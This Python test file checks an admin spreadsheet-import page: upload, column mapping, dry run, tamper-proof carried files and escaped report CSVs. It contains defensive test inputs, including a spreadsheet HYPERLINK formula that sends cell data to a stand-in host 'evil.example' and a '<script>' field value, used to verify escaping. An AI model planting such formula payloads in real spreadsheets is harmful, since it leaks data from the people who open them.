"""The admin import page: upload -> mapping and dry run -> confirm; the file carried encrypted between
steps, never stored; every refusal a clear message with nothing stored; the report CSV escaped."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from intake.extensions import db
from intake.models import ImportSource, Report, Submission
from tests.unit.imports.test_store import HEADERS, ROWS, csv_bytes
from tests.web_fixtures import audit_head, audit_since, csrf_token

def carried(html: str) -> str:
    found = re.search(r'<input[^>]*name="carried"[^>]*>', html)
    assert found, "the page carries no file"
    return re.search(r'value="([^"]*)"', found.group(0)).group(1)


@pytest.fixture
def admin_client(app, make_user, sign_in):
    admin = make_user("admin")
    client = app.test_client()
    sign_in(client, admin)
    return client, admin


def upload(client, data: bytes, name: str = "list.csv", **fields):
    page = client.get("/admin/imports")
    assert page.status_code == 200
    form = {"csrf_token": csrf_token(page.data), "file": FileStorage(io.BytesIO(data), filename=name), "encoding": "",
            "sheet": "", "dates": "", **fields}
    boundary, body = encode_multipart(form)
    return client.post("/admin/imports", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def confirm(client, plan_html: str, action: str, columns: list[str] | None = None, **fields):
    count = int(re.search(r'name="columns" value="(\d+)"', plan_html).group(1))
    chosen = columns or [re.search(rf'<select id="column-{i}"[^>]*>.*?<option value="([^"]+)" selected',
                                   plan_html, re.S).group(1) for i in range(count)]
    form = {"csrf_token": csrf_token(plan_html), "carried": carried(plan_html), "encoding": "", "sheet": "",
            "dates": "", "columns": str(count), "action": action,
            **{f"column-{i}": target for i, target in enumerate(chosen)}, **fields}
    # Encoded here: the test client would spool a large body to a temporary file it never closes.
    boundary, body = encode_multipart(form)
    return client.post("/admin/imports/confirm", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def stored(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Report)) or 0


def test_upload_check_and_import(app, admin_client):
    client, admin = admin_client
    head = audit_head(app)
    plan = upload(client, csv_bytes())
    html = plan.get_data(as_text=True)
    assert plan.status_code == 200, html
    assert "Ready: <bdi dir=\"ltr\">2</bdi>" in html and "Date of birth" in html
    assert "SENTINEL" not in html and "Paris" not in html  # the page shows headers and words, no cell values
    assert stored(app) == 0
    done = confirm(client, html, "import", source="Friends of the families")
    assert done.status_code == 200, done.get_data(as_text=True)
    assert "2</bdi> reports imported" in done.get_data(as_text=True)
    assert stored(app) == 2
    entries = audit_since(app, head)
    assert [e["action"] for e in entries] == ["import.dry_run", "import.stored"]
    assert all(e["actor"] == str(admin.id) for e in entries)
    # The sources list shows it; the same file again has nothing ready.
    assert "Friends of the families" in client.get("/admin/imports").get_data(as_text=True)
    again = upload(client, csv_bytes()).get_data(as_text=True)
    assert "No row is ready to import." in again and "Ready: <bdi dir=\"ltr\">0</bdi>" in again


def test_the_mapping_can_be_changed_before_importing(app, admin_client):
    client, _ = admin_client
    html = upload(client, csv_bytes()).get_data(as_text=True)
    targets = ["name", "birth_date", "id_number", "home_county", "status", "ignore"]
    rechecked = confirm(client, html, "check", targets)
    assert rechecked.status_code == 200
    assert confirm(client, rechecked.get_data(as_text=True), "import", targets, source="S").status_code == 200
    with app.app_context():
        assert all(r.testimony is None for r in db.session.scalars(select(Report)))
    bad = confirm(client, html, "check", ["ignore"] * 6)
    assert bad.status_code == 400 and "at least one column with the person" in bad.get_data(as_text=True)


def test_refusals_are_clear_and_store_nothing(app, admin_client):
    client, _ = admin_client
    broken = upload(client, b"PK\x03\x04 broken", "list.xlsx")
    assert broken.status_code == 400 and "Excel" in broken.get_data(as_text=True)
    app.config["INTAKE_IMPORT_MAX_BYTES"] = 1024
    big = upload(client, b"Name\n" + b"someone\n" * 1000)
    assert big.status_code == 413 and "1024" not in big.get_data(as_text=True)
    assert "larger than" in big.get_data(as_text=True)
    app.config["INTAKE_IMPORT_MAX_BYTES"] = 20 * 1024 * 1024
    html = upload(client, csv_bytes()).get_data(as_text=True)
    no_basis = confirm(client, html, "import", source="S", share_research="y")
    assert no_basis.status_code == 400 and "basis" in no_basis.get_data(as_text=True)
    no_source = confirm(client, html, "import", source=" ")
    assert no_source.status_code == 400 and "Name the source" in no_source.get_data(as_text=True)
    # A carried file changed on the way, or handed to another admin's session, opens nothing.
    forged = html.replace(carried(html), carried(html)[:-8] + "AAAAAAAA")
    changed = confirm(client, forged, "import", source="S")
    assert changed.status_code == 400 and "Upload it again" in changed.get_data(as_text=True)
    assert stored(app) == 0
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Submission)) == 0
        assert db.session.scalar(select(func.count()).select_from(ImportSource)) == 0


def test_a_carried_file_is_bound_to_the_admin(app, admin_client, make_user, sign_in):
    client, _ = admin_client
    html = upload(client, csv_bytes()).get_data(as_text=True)
    other = app.test_client()
    sign_in(other, make_user("admin"))
    page = other.get("/admin/imports").get_data(as_text=True)
    stolen = html.replace(csrf_token(html), csrf_token(page))
    refused = confirm(other, stolen, "import", source="S")
    assert refused.status_code == 400 and "Upload it again" in refused.get_data(as_text=True)
    assert stored(app) == 0


def test_the_report_csv_never_carries_a_live_formula(app, admin_client):
    client, _ = admin_client
    headers = [HEADERS[0], '=HYPERLINK("http://evil.example/?"&A1,"click")', *HEADERS[2:]]
    rows = [[r[0], "03/04/1985", *r[2:]] for r in ROWS]
    html = upload(client, csv_bytes(rows, headers)).get_data(as_text=True)
    assert '<label for="column-1"><bdi>=HYPERLINK(&#34;' in html or "=HYPERLINK(&#34;" in html  # shown as text
    report = confirm(client, html, "report", ["name", "birth_date", "id_number", "home_county", "status", "testimony"])
    assert report.status_code == 200 and report.mimetype == "text/csv"
    assert "attachment" in report.headers["Content-Disposition"]
    cells = [cell for row in csv.reader(io.StringIO(report.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the header named in a problem, escaped
    assert not any(c.lstrip().startswith(("=", "+", "-", "@")) for c in cells)
    assert stored(app) == 0


def test_a_file_without_a_recognised_name_column_asks_for_the_mapping(app, admin_client):
    client, _ = admin_client
    page = upload(client, csv_bytes(headers=["Who", *HEADERS[1:]]))
    html = page.get_data(as_text=True)
    assert page.status_code == 400 and "at least one column with the person" in html
    fixed = confirm(client, html, "check", ["name", "birth_date", "id_number", "home_county", "status", "testimony"])
    assert fixed.status_code == 200 and "Ready: <bdi dir=\"ltr\">2</bdi>" in fixed.get_data(as_text=True)


def test_reviewers_see_where_an_imported_report_came_from(app, admin_client):
    from intake.keyring import get_vault
    from intake.services import take_in

    client, _ = admin_client
    html = upload(client, csv_bytes(), "families list.csv").get_data(as_text=True)
    assert confirm(client, html, "import", source="Friends of the families").status_code == 200
    with app.app_context():
        take_in.take_in(db.session, get_vault())
        handle = db.session.scalars(select(Report.handle)).first()
    page = client.get(f"/review/reports/{handle}").get_data(as_text=True)
    assert "Imported from" in page and "Friends of the families" in page and "families list.csv" in page
    assert "stated by the admin who imported the list" in page


def test_a_list_larger_than_a_form_field_is_carried_between_steps(app, admin_client):
    import base64
    import os

    client, _ = admin_client
    rows = [[f"Person {i}", "1980", "", "", "", base64.b64encode(os.urandom(300)).decode()] for i in range(2000)]
    html = upload(client, csv_bytes(rows)).get_data(as_text=True)
    assert len(carried(html)) > 600_000  # beyond Werkzeug's default 500 KB for a form field
    done = confirm(client, html, "import", source="S")
    assert done.status_code == 200, done.get_data(as_text=True)[:300]
    assert stored(app) == 2000


@pytest.mark.parametrize("columns", ["abc", "-1", "100000", ""])
def test_a_changed_form_is_refused_without_an_error_page(app, admin_client, columns):
    client, _ = admin_client
    html = upload(client, csv_bytes()).get_data(as_text=True)
    changed = html.replace('name="columns" value="6"', f'name="columns" value="{columns}"')
    form = {"csrf_token": csrf_token(html), "carried": carried(html), "columns": columns, "action": "import",
            "source": "S"}
    boundary, body = encode_multipart(form)
    response = client.post("/admin/imports/confirm", data=body, content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 400 and "upload the file again" in response.get_data(as_text=True)
    assert changed and stored(app) == 0
    # Fields that are not fields: refused by the mapping step, with the mapping shown again.
    odd = confirm(client, html, "import", ["<script>", "name", "x", "y", "z", "w"], source="S")
    assert odd.status_code == 400 and "Unknown field" in odd.get_data(as_text=True)
    assert "<script>" not in odd.get_data(as_text=True)


def test_a_list_too_long_for_the_page_is_sent_to_the_command(app, admin_client):
    client, _ = admin_client
    app.config["INTAKE_IMPORT_PAGE_MAX_ROWS"] = 3
    assert "3</bdi> rows" in client.get("/admin/imports").get_data(as_text=True)
    refused = upload(client, csv_bytes())
    assert refused.status_code == 400 and "flask import" in refused.get_data(as_text=True)
    assert stored(app) == 0


def test_an_excel_workbook_with_a_chosen_sheet(app, admin_client):
    import xlsxwriter

    client, _ = admin_client
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet("Notes").write_string(0, 0, "nothing to import here")
    sheet = book.add_worksheet("People")
    for r, row in enumerate([HEADERS, *ROWS]):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    sheet.write_formula(len(ROWS) + 1, 0, '=HYPERLINK("http://evil.example","Click")')
    book.close()
    page = upload(client, buffer.getvalue(), "list.xlsx", sheet="People")
    html = page.get_data(as_text=True)
    assert page.status_code == 200, html
    assert "Ready: <bdi dir=\"ltr\">3</bdi>" in html and "were not calculated" in html
    missing = upload(client, buffer.getvalue(), "list.xlsx", sheet="Nowhere")
    assert missing.status_code == 400 and "no sheet named" in missing.get_data(as_text=True)
    form = {"sheet": "People"}
    done = confirm(client, html, "import", source="S", **form)
    assert done.status_code == 200, done.get_data(as_text=True)[:500]
    with app.app_context():
        texts = [n["value"] for r in db.session.scalars(select(Report)) for n in r.names]
    assert '=HYPERLINK("http://evil.example","Click")' in texts  # kept as text, never calculated


def test_a_messy_workbook_on_the_page_says_what_was_read(app, admin_client):
    """No sheet chosen: the one that holds the list is read, below its title, and the page says so;
    a password-protected workbook is refused in words, nothing stored."""
    import datetime as dt

    import xlsxwriter

    from tests.unit.imports.test_messy_lists import DATA

    client, _ = admin_client
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet("Notes").write_string(0, 0, "nothing to import here")
    sheet = book.add_worksheet("People")
    sheet.write_row(0, 0, ["Our families, 2019"])
    sheet.write_row(2, 0, ["Name", "Date of birth", "ID number"])
    sheet.write_row(3, 0, ["Abdurehim", 30850, 653101198406170011])
    sheet.write_row(4, 0, ["Memet", dt.date(1990, 1, 2).isoformat(), "'653125198406170011"])
    book.close()
    page = upload(client, buffer.getvalue(), "list.xlsx")
    html = page.get_data(as_text=True)
    assert page.status_code == 200, html
    assert "Ready: <bdi dir=\"ltr\">1</bdi>" in html
    assert "was read; the workbook also has:" in html and "found in row" in html
    assert "was stored by the spreadsheet as a number" in html and "6531" not in html
    uyghur = client.get("/admin/imports?lang=ug")
    assert uyghur.status_code == 200
    translated = upload(client, buffer.getvalue(), "list.xlsx").get_data(as_text=True)
    assert "was read; the workbook also has:" not in translated  # the notes speak the page's language
    client.get("/admin/imports?lang=en")
    locked = upload(client, (DATA / "protected.xlsx").read_bytes(), "list.xlsx")
    assert locked.status_code == 400 and "protected by a password" in locked.get_data(as_text=True)
    assert stored(app) == 0


@pytest.mark.parametrize(("data", "name", "status", "words"), [
    (b"sep=;\r\nOur list\r\n\r\nName;Date of birth;ID number\r\nAbdurehim;30850;6.53101E+17\r\n", "list.csv", 200,
     "was stored by the spreadsheet as a number"),
    ("Фамилия,Имя,Дата рождения,Имя матери\nТурсун,Абдурехим,17 июня 1984 г.,Айгуль\n".encode("cp1251"), "list.csv",
     200, "Ready: <bdi dir=\"ltr\">1</bdi>"),
    (b"Name,Name,,Born\nAbdurehim,#N/A,x,June 17, 1984\n", "list.csv", 200, "Column C"),
    (b"Name,Date of birth\r\n\r\n", "list.csv", 200, "no rows below the column names"),
    (b"PK\x03\x04\x14\x00\x00\x00\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet", "list.ods", 400,
     "OpenDocument spreadsheet"),
    (b"<html><table><tr><td>Name</td></tr></table></html>", "export.xls", 400, "web page (HTML)"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "list.xls", 400, "old Excel file"),
    (b"Name,Born\nA,1984\n", "renamed.xlsx", 400, "named like an Excel workbook"),
])
def test_messy_files_on_the_page_get_words_never_an_error_page(app, admin_client, data, name, status, words):
    client, _ = admin_client
    page = upload(client, data, name)
    html = page.get_data(as_text=True)
    assert page.status_code == status and words in html, html[-2000:]
    assert "Abdurehim" not in html and "Айгуль" not in html and "6.53101E+17" not in html
    assert stored(app) == 0
